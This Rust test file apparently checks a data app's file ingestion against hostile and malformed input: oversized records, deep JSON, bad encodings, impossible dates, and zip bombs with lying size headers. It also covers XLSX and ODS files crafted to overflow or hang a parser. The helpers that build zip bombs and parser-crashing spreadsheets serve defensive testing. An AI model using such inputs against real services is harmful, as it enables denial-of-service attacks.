//! Hostile and broken input (issue 9): every file of `tests/fixtures/hostile/` and the large
//! ones generated here, each with its exact outcome (message and counts); the limits that keep
//! a file from freezing the tab; text kept as text and formulas neutralised on export; and the
//! row accounting as a property over generated files with injected faults.
//!
//! See: tests/fixtures/hostile/README.md for the list of files and their expected outcomes.

use std::io::Write;

use deflect::engine::dataset::Dataset;
use deflect::engine::error::{FileError, Position, Severity};
use deflect::engine::export::to_csv;
use deflect::engine::ingest::sheet::MAX_CELLS;
use deflect::engine::ingest::text::TextLimits;
use deflect::engine::ingest::{ingest_bytes, IngestOptions, Ingested, IngestedPart, Ingester, MAX_ZIP_EXPANDED};
use deflect::engine::params::{Filters, Params};
use deflect::engine::report::Report;
use deflect::engine::time::Zone;

use super::fixture;

// ---------------------------------------------------------------------------------------------
// Helpers

fn read(name: &str, bytes: &[u8]) -> Result<Ingested, FileError> {
    ingest_bytes(name, bytes, &IngestOptions::new(Zone::utc()))
}

fn hostile(name: &str) -> Vec<u8> {
    std::fs::read(fixture("hostile").join(name)).unwrap_or_else(|e| panic!("fixture hostile/{name}: {e}"))
}

/// The whole-file error of a fixture, as (error, English message).
fn error_of(name: &str, bytes: &[u8]) -> (FileError, String) {
    match read(name, bytes) {
        Err(e) => {
            let text = e.to_string();
            (e, text)
        }
        Ok(ing) => panic!("{name}: read {} parts, expected an error", ing.parts.len()),
    }
}

/// The only part of a fixture that must be readable.
fn part_of(name: &str, bytes: &[u8]) -> IngestedPart {
    let mut ing = read(name, bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
    assert_eq!(ing.parts.len(), 1, "{name}: one part");
    ing.parts.remove(0)
}

/// (rows, used, rejected, warnings), checking rows = used + rejected.
fn counts(p: &IngestedPart) -> (u64, u64, u64, u64) {
    let s = &p.summary;
    assert_eq!(s.rows, s.used + s.rejected, "{}: rows = used + rejected", s.file);
    (s.rows, s.used, s.rejected, s.warnings)
}

/// Every diagnostic as "rejected|warning: <position>: <message>".
fn messages(p: &IngestedPart) -> Vec<String> {
    p.diagnostics
        .iter()
        .map(|d| format!("{}: {d}", if d.severity == Severity::Rejected { "rejected" } else { "warning" }))
        .collect()
}

fn ids(p: &IngestedPart) -> Vec<&str> {
    p.contacts.iter().map(|c| p.strings.get(c.id)).collect()
}

fn agents(p: &IngestedPart) -> Vec<&str> {
    p.contacts.iter().map(|c| p.strings.get(c.agent)).collect()
}

fn line(n: u64) -> Option<Position> {
    Some(Position { line: n, ..Default::default() })
}

/// A zip of `(name, body)` members, deflated.
fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, body) in members {
        zip.start_file(*name, opts).expect("zip entry");
        zip.write_all(body).expect("zip write");
    }
    zip.finish().expect("zip").into_inner()
}

/// A zip whose member `name` is `prefix` then `zeros` spaces (written in 1 MiB pieces: the
/// compressed stream stays about a thousandth of that).
fn zip_with_padding(others: &[(&str, &[u8])], name: &str, prefix: &[u8], zeros: u64) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated).compression_level(Some(9));
    for (n, body) in others {
        zip.start_file(*n, opts).expect("zip entry");
        zip.write_all(body).expect("zip write");
    }
    zip.start_file(name, opts.large_file(zeros > u32::MAX as u64 / 2)).expect("zip entry");
    zip.write_all(prefix).expect("zip write");
    let block = vec![b' '; 1 << 20];
    let mut left = zeros;
    while left > 0 {
        let n = left.min(block.len() as u64) as usize;
        zip.write_all(&block[..n]).expect("zip write");
        left -= n as u64;
    }
    zip.finish().expect("zip").into_inner()
}

/// Rewrites the uncompressed size that the local and central headers of member `name` declare
/// (what a zip bomb lies about).
fn declare_size(zip: &mut [u8], name: &str, size: u32) {
    let mut patched = 0;
    let mut i = 0;
    while i + 46 <= zip.len() {
        let (size_at, len_at, name_at) = match &zip[i..i + 4] {
            b"PK\x03\x04" => (22, 26, 30),
            b"PK\x01\x02" => (24, 28, 46),
            _ => {
                i += 1;
                continue;
            }
        };
        let len = u16::from_le_bytes([zip[i + len_at], zip[i + len_at + 1]]) as usize;
        if zip.get(i + name_at..i + name_at + len) == Some(name.as_bytes()) {
            zip[i + size_at..i + size_at + 4].copy_from_slice(&size.to_le_bytes());
            patched += 1;
        }
        i += 4;
    }
    assert_eq!(patched, 2, "member {name}: local and central header");
}

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const PKG: &str = "http://schemas.openxmlformats.org/package/2006/relationships";

/// The fixed members of a one-sheet XLSX (the sheet and shared strings come from the test).
fn workbook_members() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("[Content_Types].xml", String::from("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></Types>").into_bytes()),
        ("_rels/.rels", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"{PKG}\"><Relationship Id=\"rId1\" Type=\"{REL}/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>").into_bytes()),
        ("xl/workbook.xml", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"{MAIN}\" xmlns:r=\"{REL}\"><sheets><sheet name=\"Tickets\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>").into_bytes()),
        ("xl/_rels/workbook.xml.rels", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"{PKG}\"><Relationship Id=\"rId1\" Type=\"{REL}/worksheet\" Target=\"worksheets/sheet1.xml\"/><Relationship Id=\"rId3\" Type=\"{REL}/sharedStrings\" Target=\"sharedStrings.xml\"/></Relationships>").into_bytes()),
    ]
}

/// A worksheet: `<sheetData>` holding `rows`, after `before` (a `<dimension>` claim).
fn sheet_xml(before: &str, rows: &str) -> String {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"{MAIN}\">{before}<sheetData>{rows}</sheetData></worksheet>")
}

/// Two data rows of canonical contacts, as inline-string XLSX rows 1..=3.
const TICKET_ROWS: &str = r#"<row r="1"><c r="A1" t="inlineStr"><is><t>id</t></is></c><c r="B1" t="inlineStr"><is><t>created</t></is></c><c r="C1" t="inlineStr"><is><t>channel</t></is></c><c r="D1" t="inlineStr"><is><t>agent</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>T1</t></is></c><c r="B2" t="inlineStr"><is><t>2026-03-02T09:00:00Z</t></is></c><c r="C2" t="inlineStr"><is><t>email</t></is></c><c r="D2" t="inlineStr"><is><t>Ana</t></is></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>T2</t></is></c><c r="B3" t="inlineStr"><is><t>2026-03-02T10:00:00Z</t></is></c><c r="C3" t="inlineStr"><is><t>chat</t></is></c><c r="D3" t="inlineStr"><is><t>Bo</t></is></c></row>"#;

const EMPTY_STRINGS: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"0\" uniqueCount=\"0\"></sst>";

fn xlsx(sheet: &str, strings: &str) -> Vec<u8> {
    let mut members = workbook_members();
    members.push(("xl/sharedStrings.xml", strings.as_bytes().to_vec()));
    members.push(("xl/worksheets/sheet1.xml", sheet.as_bytes().to_vec()));
    let refs: Vec<(&str, &[u8])> = members.iter().map(|(n, b)| (*n, b.as_slice())).collect();
    zip_of(&refs)
}

fn slow_tests() -> bool {
    std::env::var_os("RUN_SLOW_TESTS").is_some()
}

// ---------------------------------------------------------------------------------------------
// Whole-file problems: the file is named, the reason given, nothing computed from it

// See: issue 9
#[test]
fn issue_9_empty_header_only_garbage_and_an_image() {
    assert_eq!(error_of("empty.csv", &hostile("empty.csv")), (FileError::Empty, "the file is empty".into()));
    assert_eq!(
        error_of("header_only.csv", &hostile("header_only.csv")),
        (FileError::HeaderOnly, "the file has a header but no data rows".into())
    );
    assert_eq!(
        error_of("binary_garbage.csv", &hostile("binary_garbage.csv")).1,
        "the file is not a table this app reads (it looks like binary data)"
    );
    assert_eq!(
        error_of("image_renamed.csv", &hostile("image_renamed.csv")).1,
        "the file is not a table this app reads (it looks like a PNG image)"
    );
}

// See: issue 9
#[test]
fn issue_9_a_10_mb_single_line_is_a_named_limit() {
    let line = vec![b'x'; 10 << 20];
    let (e, text) = error_of("one_line.csv", &line);
    assert_eq!(
        e,
        FileError::Limit {
            what: "size of a record in bytes".into(),
            limit: 4 << 20,
            position: Some(Position { line: 1, record: 0, byte: Some(0), ..Default::default() })
        }
    );
    assert_eq!(text, "size of a record in bytes exceeds the limit of 4194304 at line 1");
}

// See: issue 9
#[test]
fn issue_9_a_million_columns_is_a_named_limit() {
    let mut wide = (0..1_000_000).map(|i| format!("c{i}")).collect::<Vec<_>>().join(",");
    wide.push('\n');
    wide.push_str(&"1,".repeat(999_999));
    wide.push_str("1\n");
    let (e, text) = error_of("wide.csv", wide.as_bytes());
    assert!(matches!(e, FileError::Limit { limit: 10_000, .. }), "{e:?}");
    assert_eq!(text, "fields in a record exceeds the limit of 10000 at line 1");

    // Under the header, a row over the limit is one rejected row; exactly at it, it is read.
    let mut file = String::from("id,created,channel,agent\nT1,2026-03-02T09:00:00Z,email,Ana\n");
    file.push_str(&format!("T2,2026-03-02T10:00:00Z,chat,Bo{}\n", ",".repeat(9_996)));
    file.push_str(&format!("T3,2026-03-02T11:00:00Z,chat,Bo{}\n", ",".repeat(9_997)));
    let p = part_of("wide_rows.csv", file.as_bytes());
    assert_eq!(counts(&p), (3, 2, 1, 0));
    assert_eq!(ids(&p), ["T1", "T2"]);
    assert_eq!(messages(&p), ["rejected: line 4: record with more than 10000 fields"]);
}

// See: issue 9
#[test]
fn issue_9_json_nested_100_000_levels_is_a_named_limit() {
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let (e, text) = error_of("deep.json", deep.as_bytes());
    assert_eq!(e, FileError::Limit { what: "JSON nesting depth".into(), limit: 128, position: line(1) });
    assert_eq!(text, "JSON nesting depth exceeds the limit of 128 at line 1");
    // The same in one NDJSON line rejects that line only.
    let ndjson = format!(
        "{{\"id\":\"T1\",\"created\":\"2026-03-02T09:00:00Z\",\"channel\":\"email\",\"agent\":\"Ana\"}}\n{{\"id\":\"T2\",\"created\":\"2026-03-02T10:00:00Z\",\"channel\":\"chat\",\"agent\":\"Bo\"}}\n{{\"deep\":{}1{}}}\n",
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let p = part_of("deep.ndjson", ndjson.as_bytes());
    assert_eq!(counts(&p), (3, 2, 1, 0));
    assert_eq!(messages(&p), ["rejected: line 3: not valid JSON: nested deeper than 128 levels"]);
}

// See: issue 9
#[test]
fn issue_9_json_with_more_keys_than_columns_allowed() {
    let records: Vec<String> = (0..11).map(|r| format!("{{{}}}", (0..1_000).map(|k| format!("\"k{r}_{k}\":1")).collect::<Vec<_>>().join(","))).collect();
    let doc = format!("[{}]", records.join(",\n"));
    let (e, text) = error_of("keys.json", doc.as_bytes());
    assert_eq!(e, FileError::Limit { what: "columns (distinct keys) in the JSON records".into(), limit: 10_000, position: line(11) });
    assert_eq!(text, "columns (distinct keys) in the JSON records exceeds the limit of 10000 at line 11");
}

// ---------------------------------------------------------------------------------------------
// Row-level damage: every row used or rejected with its line and reason

// See: issue 9
#[test]
fn issue_9_an_unclosed_quote_is_one_rejected_record_that_says_what_it_swallowed() {
    let p = part_of("unbalanced_quotes.csv", &hostile("unbalanced_quotes.csv"));
    assert_eq!(counts(&p), (2, 1, 1, 0));
    assert_eq!(ids(&p), ["T1"]);
    assert_eq!(
        messages(&p),
        ["rejected: line 3: a quote opened in this record is never closed, so every line to the end of the file (line 5) was read into it"]
    );
    // In the header, nothing is left to read.
    let (e, text) = error_of("quote_in_header.csv", b"id,\"created,channel\n1,2026-03-02,email\n2,2026-03-02,chat\n");
    assert!(matches!(e, FileError::Malformed { position: Some(Position { line: 1, .. }), .. }), "{e:?}");
    assert_eq!(text, "line 1: a quote opened in this record is never closed, so every line to the end of the file (line 3) was read into it");
    // A closed multi-line field and a stray quote in an unquoted field are data.
    let p = part_of("quotes_ok.csv", b"id,created,channel,agent\nT1,2026-03-02T09:00:00Z,email,\"Ana\nRossi\"\nT2,2026-03-02T10:00:00Z,chat,Bo 5\" tall\n");
    assert_eq!(counts(&p), (2, 2, 0, 0));
    assert_eq!(agents(&p), ["Ana\nRossi", "Bo 5\" tall"]);
}

// See: issue 9
#[test]
fn issue_9_mixed_encodings_keep_utf8_rows_and_recode_the_others() {
    let p = part_of("mixed_encodings.csv", &hostile("mixed_encodings.csv"));
    assert_eq!(p.summary.encoding.as_deref(), Some("UTF-8"));
    assert_eq!(counts(&p), (3, 3, 0, 2));
    assert_eq!(agents(&p), ["José", "Zoë", "Ana"]);
    assert_eq!(
        messages(&p),
        [
            "warning: line 3, column `agent`: `Zoë` was not UTF-8 and was read as Windows-1252",
            "warning: line 3, column `issue_type`: `faturação` was not UTF-8 and was read as Windows-1252"
        ]
    );
}

// See: issue 9
#[test]
fn issue_9_nul_bytes_and_byte_order_marks_are_dropped_from_values() {
    let p = part_of("nul_bytes.csv", &hostile("nul_bytes.csv"));
    assert_eq!(counts(&p), (3, 3, 0, 0));
    assert_eq!(ids(&p), ["T1", "T2", "T3"]);
    assert_eq!(agents(&p), ["Ana", "Bo", "Bo"]);
    let p = part_of("bom_in_the_middle.csv", &hostile("bom_in_the_middle.csv"));
    assert_eq!(counts(&p), (3, 3, 0, 0));
    assert_eq!(ids(&p), ["T1", "T2", "T3"]);
    assert_eq!(agents(&p), ["Ana", "Bo", "Bo"]);
}

// See: issue 9
#[test]
fn issue_9_dates_in_9999_and_1900_are_rejected_not_moved() {
    let p = part_of("extreme_dates.csv", &hostile("extreme_dates.csv"));
    assert_eq!(counts(&p), (5, 1, 4, 0));
    assert_eq!(ids(&p), ["T5"]);
    assert_eq!(
        messages(&p),
        [
            "rejected: line 2, column `created`: `9999-12-31T23:59:59Z` is outside the years 1970-2199",
            "rejected: line 3, column `created`: `1900-01-01T00:00:00Z` is outside the years 1970-2199",
            "rejected: line 4, column `first_response`: `9999-12-31T23:59:59Z` is outside the years 1970-2199",
            // Once read as 1970-01-01 (the zone could not place it and fell back to 0).
            "rejected: line 5, column `created`: `31/12/9999 23:59` is outside the years 1970-2199",
        ]
    );
}

// See: issue 9
#[test]
fn issue_9_negative_durations_reject_their_row() {
    let p = part_of("negative_durations.csv", &hostile("negative_durations.csv"));
    assert_eq!(counts(&p), (4, 1, 3, 0));
    assert_eq!(ids(&p), ["C1"]);
    assert_eq!(
        messages(&p),
        [
            "rejected: line 3, column `queue_wait_s`: `-30` is a negative duration",
            "rejected: line 4, column `talk_s`: `-00:05:00` is a negative duration",
            "rejected: line 5, column `hold_s`: `-1` is a negative duration",
        ]
    );
}

// See: issue 9
#[test]
fn issue_9_a_response_before_creation_counts_the_contact_without_the_time() {
    let p = part_of("response_before_creation.csv", &hostile("response_before_creation.csv"));
    assert_eq!(counts(&p), (3, 3, 0, 2));
    assert_eq!(p.contacts.iter().map(|c| c.first_response.is_some()).collect::<Vec<_>>(), [false, true, true]);
    assert_eq!(p.contacts.iter().map(|c| c.resolved.is_some()).collect::<Vec<_>>(), [true, false, false]);
    assert_eq!(
        messages(&p),
        [
            "warning: line 2, column `first_response`: `first_response` is 3600 s before the contact was created; the contact counts, this time is left out",
            "warning: line 3, column `resolved`: `resolved` is 86400 s before the contact was created; the contact counts, this time is left out",
        ]
    );
}

// See: issue 9
#[test]
fn issue_9_duplicate_ids_keep_the_newest_and_say_so() {
    let p = part_of("duplicate_ids.csv", &hostile("duplicate_ids.csv"));
    assert_eq!(counts(&p), (4, 4, 0, 0));
    let ds = Dataset::from_parts(vec![p]);
    let (rows, used, rejected) = ds.totals();
    assert_eq!((rows, used, rejected), (4, 4, 0));
    assert_eq!(ds.files[0].duplicates, 2);
    let kept: Vec<(&str, &str)> = ds.contacts.iter().map(|c| (ds.strings.get(c.id), ds.strings.get(c.agent))).collect();
    assert_eq!(kept, [("T1", "Cy"), ("T2", "Bo")]);
    let text: Vec<String> = ds.diagnostics[0].iter().map(|d| format!("{:?}: {d}", d.severity)).collect();
    assert_eq!(
        text,
        [
            "Warning: line 2: id `T1` appears again; the newest version (duplicate_ids.csv line 4) is used",
            "Warning: line 5: id `T1` appears again; the newest version (duplicate_ids.csv line 4) is used",
        ]
    );
    // Only the kept version is counted.
    let report = Report::build(&ds, &Params::default(), &Filters::default());
    assert_eq!(report.headline("contact_volume").and_then(|r| r.value).map(|v| format!("{v:?}")), Some("Int(2)".into()));
}

// See: issue 9
#[test]
fn issue_9_a_400_digit_json_number_rejects_its_row_only() {
    for name in ["big_number.json", "big_number.ndjson"] {
        let p = part_of(name, &hostile(name));
        assert_eq!(counts(&p), (2, 1, 1, 0), "{name}");
        assert_eq!(ids(&p), ["T2"], "{name}");
        let m = messages(&p);
        assert_eq!(m.len(), 1);
        assert_eq!(m[0], format!("rejected: line 1, column `reopens`: `{}…` is not a number", "9".repeat(200)), "{name}");
    }
}

// See: issue 9
#[test]
fn issue_9_quoted_values_in_messages_are_cut_to_200_characters() {
    let mut file = String::from("id,created,channel,agent\n");
    for i in 0..50 {
        file.push_str(&format!("T{i},{},email,Ana\n", "x".repeat(1 << 20)));
    }
    let p = part_of("long_values.csv", file.as_bytes());
    assert_eq!(counts(&p), (50, 0, 50, 0));
    assert!(p.diagnostics.iter().all(|d| d.to_string().len() < 300), "messages stay short");
    assert_eq!(messages(&p)[0], format!("rejected: line 2, column `created`: `{}…` is not a date", "x".repeat(200)));
}

// ---------------------------------------------------------------------------------------------
// Containers: zip bombs, lying headers, impossible sheets, path traversal

const SHEET_PREFIX: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>";

fn bomb_members() -> Vec<(&'static str, Vec<u8>)> {
    let mut m = workbook_members();
    m.push(("xl/sharedStrings.xml", EMPTY_STRINGS.as_bytes().to_vec()));
    m
}

// See: issue 9
#[test]
fn issue_9_xlsx_zip_bomb_declared_size_is_refused_before_inflating() {
    // 64 MiB of padding whose headers claim 3 GiB: refused from the headers alone.
    let members = bomb_members();
    let refs: Vec<(&str, &[u8])> = members.iter().map(|(n, b)| (*n, b.as_slice())).collect();
    let mut file = zip_with_padding(&refs, "xl/worksheets/sheet1.xml", SHEET_PREFIX.as_bytes(), 64 << 20);
    assert!(file.len() < 200_000, "a small file: {} bytes", file.len());
    declare_size(&mut file, "xl/worksheets/sheet1.xml", 3 << 30);
    let (e, text) = error_of("bomb.xlsx", &file);
    assert_eq!(e, FileError::Limit { what: "expanded size of the workbook".into(), limit: MAX_ZIP_EXPANDED, position: None });
    assert_eq!(text, "expanded size of the workbook exceeds the limit of 2147483648");
}

// See: issue 9
#[test]
fn issue_9_xlsx_zip_bomb_lying_about_its_size_stops_at_the_first_byte_too_many() {
    // The member says 1,000 bytes and inflates to 64 MiB: inflating stops at byte 1,001.
    let members = bomb_members();
    let refs: Vec<(&str, &[u8])> = members.iter().map(|(n, b)| (*n, b.as_slice())).collect();
    let mut file = zip_with_padding(&refs, "xl/worksheets/sheet1.xml", SHEET_PREFIX.as_bytes(), 64 << 20);
    declare_size(&mut file, "xl/worksheets/sheet1.xml", 1_000);
    let (e, text) = error_of("liar.xlsx", &file);
    assert!(matches!(e, FileError::Malformed { position: None, .. }), "{e:?}");
    assert_eq!(text, "workbook member `xl/worksheets/sheet1.xml` expands to more than the 1000 bytes its header declares");
}

// See: issue 9
#[test]
fn issue_9_xlsx_zip_bomb_of_gigabytes() {
    // The real thing, built at test time: 3 GiB of padding in a 3 MB file, honest and lying.
    if !slow_tests() {
        return;
    }
    let members = bomb_members();
    let refs: Vec<(&str, &[u8])> = members.iter().map(|(n, b)| (*n, b.as_slice())).collect();
    let honest = zip_with_padding(&refs, "xl/worksheets/sheet1.xml", SHEET_PREFIX.as_bytes(), 3 << 30);
    assert!(honest.len() < 8 << 20, "{} bytes", honest.len());
    assert_eq!(error_of("bomb.xlsx", &honest).1, "expanded size of the workbook exceeds the limit of 2147483648");
    let mut liar = honest.clone();
    declare_size(&mut liar, "xl/worksheets/sheet1.xml", 1_000);
    assert_eq!(
        error_of("liar.xlsx", &liar).1,
        "workbook member `xl/worksheets/sheet1.xml` expands to more than the 1000 bytes its header declares"
    );
    // As a member of a plain zip, the same.
    let zip = zip_with_padding(&[], "tickets.csv", b"id,created\n", 3 << 30);
    let mut zip_liar = zip.clone();
    assert_eq!(error_of("bomb.zip", &zip).1, "expanded size of the zip exceeds the limit of 2147483648");
    declare_size(&mut zip_liar, "tickets.csv", 1_000);
    let ing = read("liar.zip", &zip_liar).expect("a zip with one bad member");
    assert_eq!(ing.parts[0].summary.error.as_ref().map(|e| e.to_string()).as_deref(), Some("the member expands to more than the 1000 bytes its header declares"));
}

// See: issue 9
#[test]
fn issue_9_zip_member_lying_about_its_size_is_a_failed_part() {
    let mut zip = zip_with_padding(&[("ok.csv", b"id,created,channel,agent\nT1,2026-03-02T09:00:00Z,email,Ana\n")], "liar.csv", b"id,created\n", 8 << 20);
    declare_size(&mut zip, "liar.csv", 100);
    let ing = read("export.zip", &zip).expect("reads the honest member");
    let parts: Vec<(String, u64, Option<String>)> =
        ing.parts.iter().map(|p| (p.summary.file.clone(), p.summary.used, p.summary.error.as_ref().map(|e| e.to_string()))).collect();
    assert_eq!(
        parts,
        [
            ("export.zip/ok.csv".to_string(), 1, None),
            ("export.zip/liar.csv".to_string(), 0, Some("the member expands to more than the 100 bytes its header declares".to_string())),
        ]
    );
}

// See: issue 9
#[test]
fn issue_9_xlsx_billion_row_dimension_claim_is_not_allocated() {
    // calamine reserves cells from `<dimension>` only below 100,000 cells; this claim is ignored.
    let sheet = sheet_xml("<dimension ref=\"A1:XFD1000000000\"/>", TICKET_ROWS);
    let p = part_of("claim.xlsx", &xlsx(&sheet, EMPTY_STRINGS));
    assert_eq!(counts(&p), (2, 2, 0, 0));
    assert_eq!(agents(&p), ["Ana", "Bo"]);
}

// See: issue 9
#[test]
fn issue_9_xlsx_cells_in_opposite_corners_are_a_limit_not_17_billion_cells() {
    // calamine would allocate the whole A1:XFD1048576 box (17 billion cells) for two values.
    let far = r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>"#;
    let sheet = sheet_xml("", &format!("{TICKET_ROWS}{far}"));
    let (e, text) = error_of("corners.xlsx", &xlsx(&sheet, EMPTY_STRINGS));
    assert_eq!(
        e,
        FileError::Limit {
            what: "cells in the sheet's used range".into(),
            limit: MAX_CELLS,
            position: Some(Position { line: 1_048_576, sheet: Some("sheet1".into()), column: Some("XFD".into()), ..Default::default() })
        }
    );
    assert_eq!(text, "cells in the sheet's used range exceeds the limit of 50000000 at sheet `sheet1`, line 1048576, column `XFD`");
    // Empty styled cells far away hold no value: calamine skips them, and so does the check.
    let styled = r#"<row r="1048576"><c r="XFD1048576" s="1"/></row>"#;
    let p = part_of("styled.xlsx", &xlsx(&sheet_xml("", &format!("{TICKET_ROWS}{styled}")), EMPTY_STRINGS));
    assert_eq!(counts(&p), (2, 2, 0, 0));
}

// See: issue 9
#[test]
fn issue_9_xlsx_references_outside_a_sheet_and_inflated_string_counts() {
    // Past XFD1048576 calamine's u32 arithmetic overflows.
    let sheet = sheet_xml("", &format!("{TICKET_ROWS}<row><c r=\"AAAAAAAA99999999999\"><v>1</v></c></row>"));
    assert_eq!(
        error_of("outside.xlsx", &xlsx(&sheet, EMPTY_STRINGS)).1,
        "`xl/worksheets/sheet1.xml` has a cell reference `AAAAAAAA99999999999` outside a worksheet (A1:XFD1048576)"
    );
    // calamine reserves the claimed count of shared strings before reading one.
    let strings = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"4000000000\"><si><t>id</t></si></sst>";
    assert_eq!(
        error_of("strings.xlsx", &xlsx(&sheet_xml("", TICKET_ROWS), strings)).1,
        "`xl/sharedStrings.xml` claims 4000000000 shared strings but holds 1"
    );
}

// See: issue 9 (found by `cargo fuzz run --fuzz-dir tests/fuzz xlsx`: a panic in calamine)
#[test]
fn issue_9_xlsx_repeated_cell_reference_attribute_is_checked() {
    // calamine takes the last of repeated `r` attributes and reads `inlineStr` as a column:
    // `col * 26` overflows. Minimised from the fuzzer's input.
    let sheet = sheet_xml("", r#"<row r="1"><c r="A1" r="inlineStr"><v>1</v></c></row>"#);
    assert_eq!(
        error_of("repeated.xlsx", &xlsx(&sheet, EMPTY_STRINGS)).1,
        "`xl/worksheets/sheet1.xml` has a cell reference `inlineStr` outside a worksheet (A1:XFD1048576)"
    );
    // The same in any `ref` calamine parses (found next by the fuzzer: `<dimension ref>`).
    let sheet = sheet_xml("<dimension ref=\"inlineStr\"/>", TICKET_ROWS);
    assert_eq!(
        error_of("dimension.xlsx", &xlsx(&sheet, EMPTY_STRINGS)).1,
        "`xl/worksheets/sheet1.xml` has a cell range `inlineStr` outside a worksheet (A1:XFD1048576)"
    );
    let sheet = sheet_xml("", &format!("{TICKET_ROWS}</sheetData><mergeCells><mergeCell ref=\"A1:B99999999999\"/></mergeCells><sheetData>"));
    assert_eq!(
        error_of("merge.xlsx", &xlsx(&sheet, EMPTY_STRINGS)).1,
        "`xl/worksheets/sheet1.xml` has a cell range `A1:B99999999999` outside a worksheet (A1:XFD1048576)"
    );
    // And a range that ends before it starts: calamine subtracts its corners (found third).
    let sheet = sheet_xml("<dimension ref=\"A4:D3\"/>", TICKET_ROWS);
    assert_eq!(
        error_of("inverted.xlsx", &xlsx(&sheet, EMPTY_STRINGS)).1,
        "`xl/worksheets/sheet1.xml` has a cell range `A4:D3` that ends before it starts"
    );
    let sheet = sheet_xml("", r#"<row r="1" r="99999999999"><c><v>1</v></c></row>"#);
    assert_eq!(
        error_of("repeated_row.xlsx", &xlsx(&sheet, EMPTY_STRINGS)).1,
        "`xl/worksheets/sheet1.xml` has a cell reference `99999999999` outside a worksheet (A1:XFD1048576)"
    );
}

fn ods(content: &str) -> Vec<u8> {
    let manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.2\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.spreadsheet\"/><manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/></manifest:manifest>";
    zip_of(&[
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("META-INF/manifest.xml", manifest.as_bytes()),
        ("content.xml", content.as_bytes()),
    ])
}

fn ods_content(rows: &str) -> String {
    format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" office:version=\"1.2\"><office:body><office:spreadsheet><table:table table:name=\"Tickets\">{rows}</table:table></office:spreadsheet></office:body></office:document-content>")
}

const ODS_ROWS: &str = r#"<table:table-row><table:table-cell office:value-type="string"><text:p>id</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>created</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>channel</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>agent</text:p></table:table-cell></table:table-row><table:table-row><table:table-cell office:value-type="string"><text:p>T1</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>2026-03-02T09:00:00Z</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>email</text:p></table:table-cell><table:table-cell office:value-type="string"><text:p>Ana</text:p></table:table-cell></table:table-row>"#;

// See: issue 9
#[test]
fn issue_9_ods_repeat_bomb_is_a_limit() {
    // One row repeated a million times, 16,384 cells wide: 17 billion cells from 1 KB.
    let bomb = r#"<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row>"#;
    let (e, text) = error_of("bomb.ods", &ods(&ods_content(&format!("{ODS_ROWS}{bomb}"))));
    assert!(matches!(e, FileError::Limit { limit: MAX_CELLS, .. }), "{e:?}");
    assert_eq!(text, "cells in `content.xml` exceeds the limit of 50000000 at line 3");
    // LibreOffice's own trailing repeats (empty rows and cells to the sheet's end) are fine.
    let tail = r#"<table:table-row table:number-rows-repeated="1048574"><table:table-cell table:number-columns-repeated="1024"/></table:table-row>"#;
    let p = part_of("libreoffice.ods", &ods(&ods_content(&format!("{ODS_ROWS}{tail}"))));
    assert_eq!(counts(&p), (1, 1, 0, 0));
    assert_eq!(agents(&p), ["Ana"]);
}

// See: issue 9 (found by `cargo fuzz run --fuzz-dir tests/fuzz ods`: a timeout)
#[test]
fn issue_9_ods_cut_short_inside_a_table_does_not_hang() {
    // calamine reads a named table until `</table:table>` and, at the end of the document,
    // loops forever (and likewise inside a cell note): a frozen worker. Minimised from the
